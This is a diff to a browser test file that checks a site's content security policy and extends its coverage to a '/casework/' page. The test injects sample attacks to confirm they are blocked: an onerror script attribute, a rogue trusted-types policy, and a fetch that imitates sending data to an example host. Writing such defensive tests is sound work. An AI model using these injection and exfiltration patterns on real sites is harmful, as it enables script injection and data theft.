@@ -32,6 +32,7 @@ describe.skipIf(isChromiumMissing())("the page policy in a real browser", () => 
   test.each([
     ["/", "Nhắn tin"],
     ["/console/", "Đăng nhập"],
+    ["/casework/", "Đăng nhập"],
     ["/exit", undefined],
     ["/api/docs/", "Nightlight"],
   ])("%s works, and the policy has nothing to stop", async (path, words) => {
@@ -76,10 +77,12 @@ describe.skipIf(isChromiumMissing())("the page policy in a real browser", () => 
     await screen.context.close();
   });
 
-  test.each(["/", "/console/"])("%s: script that somebody smuggled in does not run, and is noticed", async (path) => {
-    const { screen, found } = await open(path);
-    // Each of these is a way in that an injected name or message could try.
-    await screen.page.evaluate(`(() => {
+  test.each(["/", "/console/", "/casework/"])(
+    "%s: script that somebody smuggled in does not run, and is noticed",
+    async (path) => {
+      const { screen, found } = await open(path);
+      // Each of these is a way in that an injected name or message could try.
+      await screen.page.evaluate(`(() => {
       const attempt = (way) => { try { way(); } catch {} };
       const image = document.createElement("img");
       attempt(() => image.setAttribute("onerror", "window.smuggled = true"));
@@ -90,13 +93,14 @@ describe.skipIf(isChromiumMissing())("the page policy in a real browser", () => 
       attempt(() => trustedTypes.createPolicy("somebody-else", { createHTML: (text) => text }));
       void fetch("https://example.org/take?words").catch(() => undefined);
     })()`);
-    await screen.page.waitForTimeout(300);
-    const stopped = (await found()).join("\n");
-    expect(stopped).toContain("img-src https://example.org");
-    expect(stopped).toContain("trusted-types trusted-types-policy");
-    expect(stopped).toContain("require-trusted-types-for trusted-types-sink");
-    expect(stopped).toContain("connect-src https://example.org");
-    expect(await screen.page.evaluate("window.smuggled")).toBeUndefined();
-    await screen.context.close();
-  });
+      await screen.page.waitForTimeout(300);
+      const stopped = (await found()).join("\n");
+      expect(stopped).toContain("img-src https://example.org");
+      expect(stopped).toContain("trusted-types trusted-types-policy");
+      expect(stopped).toContain("require-trusted-types-for trusted-types-sink");
+      expect(stopped).toContain("connect-src https://example.org");
+      expect(await screen.page.evaluate("window.smuggled")).toBeUndefined();
+      await screen.context.close();
+    },
+  );
 });
